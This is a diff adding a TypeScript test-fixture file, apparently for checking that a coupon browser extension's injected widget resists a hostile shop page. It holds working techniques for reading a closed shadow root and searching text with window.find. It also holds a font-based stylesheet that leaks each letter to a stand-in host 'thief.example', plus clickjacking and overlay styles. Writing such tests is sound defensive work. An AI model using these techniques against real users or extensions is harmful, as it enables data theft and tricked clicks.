@@ -1,0 +1,172 @@
+/** What a shop's page does to read the ticket in it, or to have it pressed. Each runs in the page itself. */
+
+interface Reading {
+  name: string;
+  /** Before the page's other scripts and before the extension's. */
+  prepare: () => void;
+  /** @returns what was read */
+  read: () => unknown;
+}
+
+declare global {
+  interface Window {
+    /** Where an attack keeps what it has got hold of. */
+    caught?: unknown[];
+    find?: (text: string, ...options: boolean[]) => boolean;
+  }
+}
+
+/** The font names of the ticket, each of which could be made to send its letters. */
+const FONTS = [
+  'Segoe UI',
+  'Roboto',
+  'Noto Sans',
+  'Liberation Sans',
+  'Arial',
+  'sans-serif',
+  'Menlo',
+  'Consolas',
+];
+const THIEF = 'http://thief.example/';
+
+export const READINGS: Reading[] = [
+  {
+    name: 'by defining its element first, and by what opens shadow roots',
+    prepare: () => {
+      const caught: unknown[] = [];
+      window.caught = caught;
+      class Caught extends HTMLElement {
+        constructor() {
+          super();
+          caught.push(this.attachInternals().shadowRoot ?? this);
+        }
+      }
+      customElements.define('promobell-ticket', Caught);
+      const attach = Element.prototype.attachShadow;
+      Element.prototype.attachShadow = function (options) {
+        const root = attach.call(this, { ...options, mode: 'open' });
+        caught.push(root);
+        return root;
+      };
+      new MutationObserver((changes) => {
+        for (const { addedNodes } of changes) {
+          for (const node of addedNodes) {
+            if (node instanceof Element && node.shadowRoot) caught.push(node.shadowRoot);
+            if (node instanceof HTMLIFrameElement) caught.push(node.src);
+          }
+        }
+      }).observe(document, { childList: true, subtree: true });
+    },
+    read: () => window.caught?.length,
+  },
+  {
+    name: 'by searching the page for it and stretching the selection',
+    prepare: () => undefined,
+    read: () => {
+      const found = ['has a code for', 'Copy', 'VERA'].filter((text) => window.find?.(text));
+      getSelection()?.modify('extend', 'backward', 'documentboundary');
+      const backward = getSelection()?.toString() ?? '';
+      getSelection()?.modify('extend', 'forward', 'documentboundary');
+      const text = backward + getSelection()?.toString() + document.documentElement.textContent;
+      return [...found, ...['has a code', '20%'].filter((part) => text.includes(part))].length;
+    },
+  },
+  {
+    name: 'by what its frame leaves behind in the page',
+    prepare: () => {
+      const caught: unknown[] = [];
+      window.caught = caught;
+      addEventListener('securitypolicyviolation', ({ blockedURI }) => caught.push(blockedURI));
+    },
+    read: () => {
+      const files = performance.getEntriesByType('resource').filter(({ name }) => !name.startsWith('http'));
+      // The last option has frames searched, too.
+      const found = window.find?.('has a code for', false, false, true, false, true, false) ? 1 : 0;
+      return (window.caught?.length ?? 0) + files.length + window.length + found;
+    },
+  },
+];
+
+/** A style sheet that asks for a file for each letter that is drawn in one of these fonts. */
+export function tellingFonts(): string {
+  const letters = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789%'];
+  return [...FONTS.flatMap((font) => letters.map((letter) => face(font, letter))), face('Known', '~')].join(
+    '\n',
+  );
+}
+
+/** What a letter of the page's own in the font 'Known' sends, which shows that the style sheet works. */
+export const KNOWN_LETTER = { letter: '~', request: `GET ${THIEF}${code('~')}` };
+
+function face(font: string, letter: string): string {
+  const at = code(letter);
+  return `@font-face { font-family: "${font}"; src: url("${THIEF}${at}"); unicode-range: U+${at}; }`;
+}
+
+function code(letter: string): string {
+  return letter.charCodeAt(0).toString(16);
+}
+
+/** Longer than the browser takes to see that something is covered, and shorter than a person takes to react to what was uncovered. */
+export const reactionTime = () => new Promise((done) => setTimeout(done, 250));
+
+/** The page's last part is the ticket's box: all that it can find of it. */
+export const BOX_CHANGES: (() => void)[] = [
+  () => document.documentElement.lastElementChild?.setAttribute('style', 'display: none'),
+  () => document.documentElement.lastElementChild?.remove(),
+];
+export const lastPart = () => document.documentElement.lastElementChild?.localName;
+
+/** Fills the corner in which the ticket is, says that much has changed, and waits until the ticket is under a point. */
+export async function moveTicketTo({ x, y }: { x: number; y: number }) {
+  document.body.innerHTML =
+    '<button style="position:fixed;bottom:0;right:0;width:360px;height:240px">Place order</button>';
+  for (const type of ['resize', 'scrollend']) dispatchEvent(new Event(type));
+  while (document.elementFromPoint(x, y) !== document.documentElement.lastElementChild)
+    await new Promise(requestAnimationFrame);
+}
+
+/** Has something in a frame of the page's own, which loads also when the browser refuses it. */
+export function frameAt(address: string): Promise<unknown> {
+  const frame = document.createElement('iframe');
+  frame.src = address;
+  const loaded = new Promise((done) => frame.addEventListener('load', done));
+  document.body.append(frame);
+  return loaded;
+}
+
+/** As if the page came back by 'Back'. */
+export function pretendToComeBack() {
+  for (let time = 0; time < 3; time += 1)
+    dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));
+}
+export const boxes = () => document.querySelectorAll('html > div').length;
+
+/** The styles with which the page could change the ticket as a whole. */
+export const BOX_STYLES = [
+  'display: block; opacity: 0.01',
+  'display: block; transform: translate(-9px)',
+  'opacity: 0.01',
+];
+export const styleBox = (style: string) =>
+  document.documentElement.lastElementChild?.setAttribute('style', style);
+
+/** What makes a press on something else fall onto the ticket, or the ticket look like something else. */
+export const CHANGED_PAGES: { name: string; css: string }[] = [
+  { name: 'a page that is nearly transparent', css: 'html { opacity: 0.01; }' },
+  { name: 'a page that was moved', css: 'html { transform: translate(-40px, -40px); block-size: 100%; }' },
+  {
+    name: 'a page of which only the corner is left',
+    css: 'html { clip-path: inset(94% 0 0 90%); block-size: 100vh; }',
+  },
+  { name: 'a page that is blurred', css: 'html { filter: blur(40px); block-size: 100vh; }' },
+];
+
+/** Beside those, what only the browser sees. */
+export const DISGUISES = [
+  {
+    name: 'a cover that lets the pointer through',
+    css: 'html::after { content: ""; position: fixed; inset: 0; z-index: 2147483647; background: white; pointer-events: none; }',
+  },
+  ...CHANGED_PAGES,
+];
